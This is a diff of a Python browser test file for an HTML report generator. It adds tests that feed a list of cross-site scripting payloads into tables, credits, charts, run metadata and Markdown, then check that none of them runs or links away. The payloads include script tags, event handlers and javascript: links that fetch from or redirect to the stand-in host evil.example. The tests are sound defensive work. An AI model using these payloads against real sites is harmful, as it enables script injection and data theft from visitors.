@@ -14,10 +14,14 @@ from typing import Any
 
 import numpy as np
 import pytest
+import torch
+from conftest import Shown
 from PIL import Image
+from test_pages import page_of
 
 from fresnel.report import run as report
 from fresnel.report.record import RunRecord, Stage
+from fresnel.show import charts, credits, pictures, style
 
 CHROMIUM = next(
     filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
@@ -281,13 +285,16 @@ def overview(tmp_path_factory: pytest.TempPathFactory) -> Path:
             Image.new("RGB", (90, 30), (40 * number, 90, 120)).save(folder / file)
     (reports / "runs/5").mkdir()
     (reports / "runs/5/results.json").write_text("{")
+    (reports / "runs/6").mkdir()
+    odd = RunRecord("n", "finished", "PASS", provenance={"cpu": "text", "datasets": [3]})
+    odd.write(reports / "runs/6")
     return report.index(reports)
 
 
 def test_the_index_filters_orders_and_compares(browser: Any, overview: Path) -> None:
     with Visit(browser, overview) as page:
         runs = page.locator(".run:not([hidden])")
-        assert runs.count() == 5 and "1 damaged" in page.locator("main").inner_text()
+        assert runs.count() == 5 and "2 damaged" in page.locator("main").inner_text()
 
         def names() -> list[str]:
             return page.locator(".run:not([hidden]) .summary").all_text_contents()
@@ -358,3 +365,64 @@ def test_pages_work_without_scripts(browser: Any, tiny: Path, overview: Path) ->
         assert not page.locator("#theme").is_visible()
     with Visit(browser, overview, java_script_enabled=False) as page:
         assert page.locator(".run").count() == 5 and not page.locator(".pick").first.is_visible()
+
+
+HIT = "window.hit=1;fetch('https://evil.example/f');location='https://evil.example/l'"
+EVIL = (
+    f"<script>{HIT}</script>",
+    f'</script><script>{HIT}</script><img src=x onerror="{HIT}">',
+    f"\"'><svg onload=\"{HIT}\"><a href='javascript:{HIT}'>a</a>",
+    f"[go](javascript:{HIT}) ![p](https://evil.example/p.png) [on](data:text/html,{HIT})",
+    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe><base href="//evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=//evil.example/m"><form action="//evil.example/">',
+    f'<style>@import url(//evil.example/s)</style><details open ontoggle="{HIT}">{{{{7*7}}}}',
+    f"<math><mtext></form><mglyph><style></math><img src onerror={HIT}> $x$ `` ` ``",
+)
+LEADS_AWAY = """[...document.querySelectorAll("[href], [src], [srcdoc], [action]")].map((e) =>
+    e.getAttribute("href") || e.getAttribute("src") || e.getAttribute("action") || e.outerHTML
+).filter((at) => !/^(#|data:(image|font)\\/|data:,$|(?!javascript)[\\w%.\\/-]+$)/.test(at))"""
+
+
+def test_no_text_of_a_dataset_runs_or_links(browser: Any, tmp_path: Path, shown: Shown) -> None:
+    """As names, manifests, credits, files and Markdown reach a report and the index."""
+    noise, rows = torch.rand(8, 8, 3), [{"step": i, "loss": 1.0} for i in (0, 1)]
+    said = {"text": " ".join(EVIL)}
+    for evil in EVIL:
+        style.show_table([{evil: evil, "value": 1.0}])
+        shown.append(({"text/markdown": f"| {evil} |\n|---|\n| {evil} |"}, {}))
+        keys = ("title", "author", "licence", "source")
+        credits.show_credits([dict.fromkeys(keys, evil)])
+        pictures.show_pair(noise, noise, (evil, evil), evil)
+        style.show(charts.loss_curves(rows, against={evil: ([0, 1], [0.0, 1.0])}), evil)
+    folder = tmp_path / "runs" / "".join(c for c in said["text"] if c not in "/\0")[:200]
+    folder.mkdir(parents=True)
+    texts = dict.fromkeys(("summary", "name", "title", "error"), said["text"])
+    origin = {
+        "git": {"commit": EVIL[0], "dirty": True, "changed": list(EVIL)},
+        "datasets": [{"path": evil, "objects": 1, "content_hash": evil} for evil in EVIL],
+        "packages": dict.fromkeys(EVIL, "1"),
+        **{"cpu": {"model": EVIL[1]}, "python": EVIL[2], "gpu": EVIL[3], "other": list(EVIL)},
+    }
+    many = {"params": dict.fromkeys(EVIL, 1), "metrics": {**dict.fromkeys(EVIL, EVIL[0]), "a": 1.0}}
+    text = "# T " + "\n\n".join(EVIL).replace("https:", "")  # prose may link, data not
+    page_of(folder, shown, text, **texts, **many, reasons=EVIL, notes=EVIL, provenance=origin)
+    for path in (report.index(tmp_path), folder / "executed.html"):
+        with Visit(browser, path) as page:
+            assert page.locator("h1").first.is_visible()
+            page.wait_for_timeout(200)
+            assert page.evaluate("window.hit") is None and "evil" not in page.url.split("/")[2]
+            assert page.evaluate(LEADS_AWAY) == []
+
+
+def test_a_script_that_got_into_a_page_is_not_run(
+    browser: Any, tmp_path: Path, shown: Shown
+) -> None:
+    """The policy stands behind the escaping: it names our scripts by their hashes."""
+    page_of(tmp_path, [({"text/html": EVIL[0] + f'<img src=x onerror="{HIT}">'}, {})])
+    visit = Visit(browser, tmp_path / "executed.html")
+    visit.page.wait_for_timeout(300)
+    assert visit.page.evaluate("window.hit") is None
+    assert len(visit.errors) >= 2 and all("Content Security Policy" in e for e in visit.errors)
+    assert all(url.startswith(OURS) for url in visit.requests)
+    assert visit.page.locator("#theme").is_visible()  # ours did
+    visit.context.close()
